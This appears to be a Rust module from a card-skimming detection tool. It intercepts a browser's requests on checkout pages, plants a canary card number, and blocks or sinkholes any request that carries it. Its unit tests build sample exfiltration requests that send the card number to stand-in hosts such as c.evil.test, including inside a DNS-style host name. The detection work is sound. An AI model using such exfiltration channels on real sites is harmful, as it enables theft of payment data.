//! Every HTTP request of a visit is paused (DevTools `Fetch` domain) and decided on before it
//! is sent:
//! - it carries the canary (in any form the matcher knows, or as the last of a key-by-key
//!   series): recorded and failed, never sent, whatever the host and the mode — this also
//!   keeps the shop's own checkout from placing the order;
//! - `--contain` and the host was not named: answered here with an empty response, so the
//!   page sees no error and the attacker's server sees nothing (no tip-off);
//! - past the per-page request cap: failed;
//! - otherwise sent on (through the egress proxy), with the user's headers and cookie when the
//!   host is one the user named.
//!
//! WebSocket handshakes and frames cannot be paused here; they are recorded from the
//! `Network` domain and kept local by the egress proxy. Initiators (the script that made a
//! request) are attached from `Network.requestWillBeSent` after the visit.

use super::canary::{Matcher, SplitTracker};
use super::egress::Egress;
use super::frames::Session;
use super::profiles::Profile;
use super::record::{Channel, Decision, RecordedRequest};
use super::visit::{VisitError, call};
use crate::hosts::{self, HostPattern};
use base64::Engine as _;
use chromiumoxide::Page;
use chromiumoxide::cdp::browser_protocol::{fetch, network};
use futures::StreamExt;
use std::collections::{BTreeMap, HashMap};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// A request under way longer than this is taken for a long-lived one (a long poll, a
/// stream) and no longer keeps the page from counting as settled.
const LONG_LIVED: Duration = Duration::from_secs(3);
/// How often [`Interceptor::settle`] looks.
const SETTLE_POLL: Duration = Duration::from_millis(20);

/// How the interceptor decides, for one visit.
#[derive(Clone)]
pub struct Settings {
    pub profile: Profile,
    pub page_name: String,
    pub matcher: Matcher,
    /// `--contain`: the hosts the user named; everything else is answered locally.
    pub contain: Option<Vec<HostPattern>>,
    /// Hosts that receive the user's `--header`s and `--cookie`.
    pub named: Vec<HostPattern>,
    pub headers: Vec<(String, String)>,
    pub cookie: Option<String>,
    pub request_cap: usize,
}

struct State {
    settings: Settings,
    records: Mutex<Vec<RecordedRequest>>,
    split: Mutex<SplitTracker>,
    canary_phase: AtomicBool,
    count: AtomicUsize,
    /// The last network activity: a request made, paused, or finished.
    last_request: Mutex<Instant>,
    /// The page's requests under way (by network id, with when they started): the page is
    /// not settled while one is, since what it brings back may make more.
    in_flight: Mutex<HashMap<String, Instant>>,
    /// Child targets (iframes, workers) being set up and not yet let run: the page is not
    /// settled while one is, since its first requests are still to come.
    children_held: AtomicUsize,
    initiators: Mutex<BTreeMap<String, String>>,
    statuses: Mutex<BTreeMap<String, u16>>,
}

pub struct Interceptor {
    state: Arc<State>,
    tasks: Vec<tokio::task::JoinHandle<()>>,
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|e| e.into_inner())
}

impl Interceptor {
    pub async fn start(page: &Page, settings: Settings) -> Result<Interceptor, VisitError> {
        let state = Arc::new(State {
            settings,
            records: Mutex::default(),
            split: Mutex::default(),
            canary_phase: AtomicBool::new(false),
            count: AtomicUsize::new(0),
            last_request: Mutex::new(Instant::now()),
            in_flight: Mutex::default(),
            children_held: AtomicUsize::new(0),
            initiators: Mutex::default(),
            statuses: Mutex::default(),
        });
        let listen = |e: chromiumoxide::error::CdpError| {
            VisitError::Cdp("event listener".into(), e.to_string())
        };
        let mut paused = page
            .event_listener::<fetch::EventRequestPaused>()
            .await
            .map_err(listen)?;
        let mut will_send = page
            .event_listener::<network::EventRequestWillBeSent>()
            .await
            .map_err(listen)?;
        let mut responses = page
            .event_listener::<network::EventResponseReceived>()
            .await
            .map_err(listen)?;
        let mut finished = page
            .event_listener::<network::EventLoadingFinished>()
            .await
            .map_err(listen)?;
        let mut failed = page
            .event_listener::<network::EventLoadingFailed>()
            .await
            .map_err(listen)?;
        let mut ws_created = page
            .event_listener::<network::EventWebSocketCreated>()
            .await
            .map_err(listen)?;
        let mut ws_frames = page
            .event_listener::<network::EventWebSocketFrameSent>()
            .await
            .map_err(listen)?;
        call(page, network::EnableParams::default()).await?;
        let pattern = fetch::RequestPattern {
            url_pattern: Some("*".into()),
            resource_type: None,
            request_stage: Some(fetch::RequestStage::Request),
        };
        let enable = fetch::EnableParams {
            patterns: Some(vec![pattern]),
            ..Default::default()
        };
        call(page, enable).await?;

        let mut tasks = Vec::new();
        let (st, p) = (state.clone(), Session::Page(page.clone()));
        tasks.push(tokio::spawn(async move {
            while let Some(ev) = paused.next().await {
                decide(&st, &p, &ev).await;
            }
        }));
        let st = state.clone();
        tasks.push(tokio::spawn(async move {
            while let Some(ev) = will_send.next().await {
                let now = Instant::now();
                lock(&st.in_flight).insert(ev.request_id.inner().clone(), now);
                *lock(&st.last_request) = now;
                if let Some(url) = initiator_url(&ev.initiator) {
                    lock(&st.initiators).insert(ev.request_id.inner().clone(), url);
                }
            }
        }));
        let st = state.clone();
        tasks.push(tokio::spawn(async move {
            while let Some(ev) = responses.next().await {
                let status = u16::try_from(ev.response.status).unwrap_or(0);
                lock(&st.statuses).insert(ev.request_id.inner().clone(), status);
            }
        }));
        let st = state.clone();
        tasks.push(tokio::spawn(async move {
            loop {
                let id = tokio::select! {
                    Some(ev) = finished.next() => ev.request_id.inner().clone(),
                    Some(ev) = failed.next() => ev.request_id.inner().clone(),
                    else => return,
                };
                lock(&st.in_flight).remove(&id);
                *lock(&st.last_request) = Instant::now();
            }
        }));
        let st = state.clone();
        tasks.push(tokio::spawn(async move {
            while let Some(ev) = ws_created.next().await {
                let initiator = ev.initiator.as_ref().and_then(initiator_url);
                if let Some(i) = &initiator {
                    lock(&st.initiators).insert(ev.request_id.inner().clone(), i.clone());
                }
                record_observed(
                    &st,
                    "GET",
                    &ev.url,
                    None,
                    Some(ev.request_id.inner().clone()),
                );
            }
        }));
        let st = state.clone();
        tasks.push(tokio::spawn(async move {
            while let Some(ev) = ws_frames.next().await {
                let id = ev.request_id.inner().clone();
                let url = lock(&st.records)
                    .iter()
                    .find(|r| r.network_id.as_deref() == Some(&id))
                    .map(|r| r.url.clone())
                    .unwrap_or_default();
                record_observed(
                    &st,
                    "SEND",
                    &url,
                    Some(ev.response.payload_data.clone()),
                    Some(id),
                );
            }
        }));
        Ok(Interceptor { state, tasks })
    }

    /// The same decision for requests paused in another session (an out-of-process iframe,
    /// a worker: [`super::frames`]), recorded with the page's.
    pub fn decider(&self) -> Decider {
        Decider(self.state.clone())
    }

    pub fn enter_canary_phase(&self) {
        self.state.canary_phase.store(true, Ordering::SeqCst);
    }

    /// Wait until the network has settled, at most `max`: no request under way (but for
    /// long-lived ones: a long poll, a stream), no child target being set up, and no network
    /// activity for `quiet`. Because requests under way are waited for, `quiet` only has to
    /// cover the time a page takes to act on a response (parse and run a script), not the
    /// response's own time, however slow the server.
    pub async fn settle(&self, quiet: Duration, max: Duration) {
        let start = Instant::now();
        loop {
            let last = *lock(&self.state.last_request);
            let held = self.state.children_held.load(Ordering::SeqCst) > 0;
            let busy = lock(&self.state.in_flight)
                .values()
                .any(|t| t.elapsed() < LONG_LIVED);
            if (last.elapsed() >= quiet && !held && !busy) || start.elapsed() >= max {
                return;
            }
            tokio::time::sleep(SETTLE_POLL).await;
        }
    }

    /// Stop listening; the records with initiators and statuses attached, plus what the
    /// egress proxy answered in the sinkhole.
    pub async fn finish(self, egress: &Egress) -> Vec<RecordedRequest> {
        for t in &self.tasks {
            t.abort();
        }
        let st = &self.state;
        let initiators = lock(&st.initiators).clone();
        let statuses = lock(&st.statuses).clone();
        let mut out = lock(&st.records).clone();
        for r in &mut out {
            if let Some(id) = &r.network_id {
                r.initiator = r.initiator.take().or_else(|| initiators.get(id).cloned());
                if r.decision == Decision::Continued {
                    r.status = statuses.get(id).copied();
                }
            }
        }
        for s in egress.sinkholed() {
            out.push(from_sinkhole(&st.settings, &s));
        }
        out
    }
}

/// A connection the egress proxy answered itself, as a record: a plain request in full, a TLS
/// one by its host alone. The canary is searched for in the host name too: a TLS connection
/// shows nothing else, and a name can carry the card itself (`<number>.collector.example`, a
/// DNS-style channel).
fn from_sinkhole(settings: &Settings, s: &super::egress::Sinkholed) -> RecordedRequest {
    let text = String::from_utf8_lossy(&s.bytes).into_owned();
    let (method, target) = text
        .lines()
        .next()
        .and_then(|l| {
            let mut p = l.split_whitespace();
            Some((p.next()?.to_string(), p.next()?.to_string()))
        })
        .unwrap_or_else(|| (if s.tls { "TLS" } else { "CONNECT" }.into(), "/".into()));
    let scheme = if s.tls { "https" } else { "http" };
    let url = format!("{scheme}://{}:{}{}", s.host, s.port, target);
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_string());
    let found = settings
        .matcher
        .find(format!("{}\n{text}", s.host).as_bytes());
    RecordedRequest {
        profile: settings.profile,
        page: settings.page_name.clone(),
        started: crate::clock::now_rfc3339(),
        method,
        url,
        host: s.host.clone(),
        headers: Vec::new(),
        body: body.filter(|b| !b.is_empty()),
        channel: Channel::Sinkhole,
        resource_type: if s.tls { "TLS" } else { "Other" }.into(),
        decision: Decision::Sinkholed,
        status: None,
        initiator: None,
        after_canary: s.after_canary,
        found,
        network_id: None,
    }
}

/// Decides on requests paused in a child session; see [`Interceptor::decider`].
#[derive(Clone)]
pub struct Decider(Arc<State>);

impl Decider {
    /// A child target is held while the visit sets it up ([`Interceptor::settle`] waits).
    pub fn child_held(&self) {
        self.0.children_held.fetch_add(1, Ordering::SeqCst);
    }

    /// The child target runs now: its requests are yet to come, so the quiet period restarts.
    pub fn child_released(&self) {
        self.0.children_held.fetch_sub(1, Ordering::SeqCst);
        *lock(&self.0.last_request) = Instant::now();
    }

    pub async fn decide(&self, session: &Session, ev: &fetch::EventRequestPaused) {
        decide(&self.0, session, ev).await;
    }

    /// A request seen in a worker's `Network` domain that its `Fetch` domain could not pause
    /// (a shared worker reached after it started, [`super::workers`]): recorded and searched
    /// for the canary like the rest. It was not held: the egress proxy is what keeps it from
    /// every host that may not receive card data once the canary exists.
    pub fn observed(&self, ev: &network::EventRequestWillBeSent) {
        let st = &self.0;
        *lock(&st.last_request) = Instant::now();
        let url = ev.request.url.clone() + ev.request.url_fragment.as_deref().unwrap_or("");
        let mut rec = RecordedRequest {
            profile: st.settings.profile,
            page: st.settings.page_name.clone(),
            started: crate::clock::now_rfc3339(),
            method: ev.request.method.clone(),
            host: host_of(&url),
            url,
            headers: headers_of(&ev.request),
            body: body_of(&ev.request),
            channel: Channel::Http,
            resource_type: ev
                .r#type
                .as_ref()
                .map(|t| format!("{t:?}"))
                .unwrap_or_else(|| "Other".into()),
            decision: Decision::Observed,
            status: None,
            initiator: initiator_url(&ev.initiator),
            after_canary: st.canary_phase.load(Ordering::SeqCst),
            found: None,
            network_id: None,
        };
        rec.found = find(st, &rec);
        lock(&st.records).push(rec);
    }
}

impl Drop for Interceptor {
    fn drop(&mut self) {
        for t in &self.tasks {
            t.abort();
        }
    }
}

/// The script that made a request: the innermost frame of the initiator's stack with a URL,
/// else the initiator's own URL (a parser-inserted resource).
fn initiator_url(i: &network::Initiator) -> Option<String> {
    let mut stack = i.stack.as_ref();
    while let Some(s) = stack {
        if let Some(f) = s.call_frames.iter().find(|f| !f.url.is_empty()) {
            return Some(f.url.clone());
        }
        stack = s.parent.as_deref();
    }
    i.url.clone().filter(|u| !u.is_empty())
}

fn host_of(url: &str) -> String {
    url::Url::parse(url)
        .ok()
        .and_then(|u| u.host_str().map(hosts::normalise_host))
        .unwrap_or_default()
}

fn record_observed(st: &State, method: &str, url: &str, body: Option<String>, id: Option<String>) {
    let host = host_of(url);
    let mut rec = RecordedRequest {
        profile: st.settings.profile,
        page: st.settings.page_name.clone(),
        started: crate::clock::now_rfc3339(),
        method: method.to_string(),
        url: url.to_string(),
        host: host.clone(),
        headers: Vec::new(),
        body,
        channel: Channel::WebSocket,
        resource_type: "WebSocket".into(),
        decision: Decision::Observed,
        status: None,
        initiator: None,
        after_canary: st.canary_phase.load(Ordering::SeqCst),
        found: None,
        network_id: id,
    };
    rec.found = find(st, &rec);
    lock(&st.records).push(rec);
}

/// What a key-by-key sender varies per request: the query and the body. Headers repeat the
/// same digits on every request (the user agent's version numbers) and would break the series.
fn keys_part(r: &RecordedRequest) -> String {
    let query = r.url.split_once('?').map(|(_, q)| q).unwrap_or("");
    format!("{query}\n{}", r.body.as_deref().unwrap_or(""))
}

/// The canary in this request, directly or as the end of a key-by-key series to its host.
fn find(st: &State, r: &RecordedRequest) -> Option<super::canary::Found> {
    let m = &st.settings.matcher;
    if let Some(f) = m.find(r.payload().as_bytes()) {
        return Some(f);
    }
    if lock(&st.split).add(m, &r.host, &keys_part(r)) {
        return Some(super::canary::Found(vec![super::canary::Layer::Split]));
    }
    None
}

/// The request body as DevTools gives it: `postDataEntries` (base64 bytes), or `postData`.
fn body_of(req: &network::Request) -> Option<String> {
    if let Some(entries) = &req.post_data_entries {
        let mut bytes = Vec::new();
        for e in entries {
            if let Some(b) = &e.bytes {
                let text: &str = b.as_ref();
                if let Ok(d) = base64::engine::general_purpose::STANDARD.decode(text) {
                    bytes.extend(d);
                }
            }
        }
        if !bytes.is_empty() {
            return Some(String::from_utf8_lossy(&bytes).into_owned());
        }
    }
    None
}

fn headers_of(req: &network::Request) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = req
        .headers
        .inner()
        .as_object()
        .map(|o| {
            o.iter()
                .map(|(k, v)| (k.clone(), v.as_str().unwrap_or_default().to_string()))
                .collect()
        })
        .unwrap_or_default();
    out.sort();
    out
}

async fn decide(st: &State, session: &Session, ev: &fetch::EventRequestPaused) {
    *lock(&st.last_request) = Instant::now();
    let s = &st.settings;
    let url = ev.request.url.clone() + ev.request.url_fragment.as_deref().unwrap_or("");
    let host = host_of(&url);
    let headers = headers_of(&ev.request);
    let mut rec = RecordedRequest {
        profile: s.profile,
        page: s.page_name.clone(),
        started: crate::clock::now_rfc3339(),
        method: ev.request.method.clone(),
        url: url.clone(),
        host: host.clone(),
        headers,
        body: body_of(&ev.request),
        channel: Channel::Http,
        resource_type: format!("{:?}", ev.resource_type),
        decision: Decision::Continued,
        status: None,
        initiator: None,
        after_canary: st.canary_phase.load(Ordering::SeqCst),
        found: None,
        network_id: ev.network_id.as_ref().map(|n| n.inner().clone()),
    };
    rec.found = find(st, &rec);
    let n = st.count.fetch_add(1, Ordering::SeqCst) + 1;
    let id = ev.request_id.clone();
    rec.decision = if rec.found.is_some() {
        Decision::BlockedCanary
    } else if s
        .contain
        .as_ref()
        .is_some_and(|named| !hosts::any_matches(named, &host))
        && url.starts_with("http")
    {
        Decision::Contained
    } else if n > s.request_cap {
        Decision::OverCap
    } else {
        Decision::Continued
    };
    let result = match rec.decision {
        Decision::BlockedCanary | Decision::OverCap => session
            .call(fetch::FailRequestParams::new(
                id,
                network::ErrorReason::BlockedByClient,
            ))
            .await
            .map(|_| ()),
        Decision::Contained => {
            let mut f = fetch::FulfillRequestParams::new(id, 200);
            f.response_headers = Some(vec![
                fetch::HeaderEntry::new("Content-Type", empty_type(&rec.resource_type)),
                fetch::HeaderEntry::new("Access-Control-Allow-Origin", "*"),
            ]);
            f.body = Some(chromiumoxide::Binary::from(String::new()));
            session.call(f).await.map(|_| ())
        }
        _ => {
            let mut c = fetch::ContinueRequestParams::new(id);
            if hosts::any_matches(&s.named, &host) && (!s.headers.is_empty() || s.cookie.is_some())
            {
                c.headers = Some(with_user_headers(&rec.headers, &s.headers, &s.cookie));
            }
            session.call(c).await.map(|_| ())
        }
    };
    if let Err(e) = result {
        tracing::debug!(url = %rec.url, error = %e, "interception answer failed");
    }
    lock(&st.records).push(rec);
}

/// The content type of an empty stand-in response: what the page asked for, so it sees no
/// error.
fn empty_type(resource_type: &str) -> &'static str {
    match resource_type {
        "Script" => "application/javascript",
        "Stylesheet" => "text/css",
        "Document" => "text/html",
        "Image" => "image/gif",
        _ => "application/json",
    }
}

/// The request's headers plus the user's (theirs win) and cookie (appended).
fn with_user_headers(
    existing: &[(String, String)],
    extra: &[(String, String)],
    cookie: &Option<String>,
) -> Vec<fetch::HeaderEntry> {
    let mut map: BTreeMap<String, (String, String)> = existing
        .iter()
        .map(|(k, v)| (k.to_ascii_lowercase(), (k.clone(), v.clone())))
        .collect();
    for (k, v) in extra {
        map.insert(k.to_ascii_lowercase(), (k.clone(), v.clone()));
    }
    if let Some(c) = cookie {
        let merged = match map.get("cookie") {
            Some((_, old)) if !old.is_empty() => format!("{old}; {c}"),
            _ => c.clone(),
        };
        map.insert("cookie".into(), ("Cookie".into(), merged));
    }
    map.into_values()
        .map(|(k, v)| fetch::HeaderEntry::new(k, v))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_card_spelled_into_a_tls_host_name_is_found() {
        let c = super::super::canary::Canary::from_seed(11);
        let settings = Settings {
            profile: Profile::Desktop,
            page_name: "https://shop.test/checkout".into(),
            matcher: Matcher::new(&c),
            contain: None,
            named: Vec::new(),
            headers: Vec::new(),
            cookie: None,
            request_cap: 10,
        };
        let tls = |host: String| super::super::egress::Sinkholed {
            host,
            port: 443,
            bytes: Vec::new(),
            tls: true,
            after_canary: true,
        };
        let r = from_sinkhole(&settings, &tls(format!("{}.dns.evil.test", c.number)));
        assert!(r.found.is_some(), "{r:?}");
        assert_eq!(r.decision, Decision::Sinkholed);
        assert!(
            from_sinkhole(&settings, &tls("cdn.evil.test".into()))
                .found
                .is_none()
        );
        // A plain request is searched in full, body included.
        let plain = super::super::egress::Sinkholed {
            host: "c.evil.test".into(),
            port: 80,
            bytes: format!(
                "POST /c HTTP/1.1\r\nHost: c.evil.test\r\n\r\nn={}",
                c.number
            )
            .into_bytes(),
            tls: false,
            after_canary: true,
        };
        let r = from_sinkhole(&settings, &plain);
        assert!(r.found.is_some());
        assert_eq!(r.method, "POST");
        assert_eq!(r.url, "http://c.evil.test:80/c");
    }

    #[test]
    fn user_headers_win_and_cookies_merge() {
        let existing = vec![
            ("Accept".to_string(), "*/*".to_string()),
            ("Cookie".to_string(), "a=1".to_string()),
        ];
        let extra = vec![("accept".to_string(), "text/html".to_string())];
        let out = with_user_headers(&existing, &extra, &Some("session=xyz".into()));
        let pairs: Vec<(String, String)> = out.into_iter().map(|h| (h.name, h.value)).collect();
        assert!(pairs.contains(&("accept".into(), "text/html".into())));
        assert!(pairs.contains(&("Cookie".into(), "a=1; session=xyz".into())));
        assert_eq!(pairs.len(), 2);
    }
}
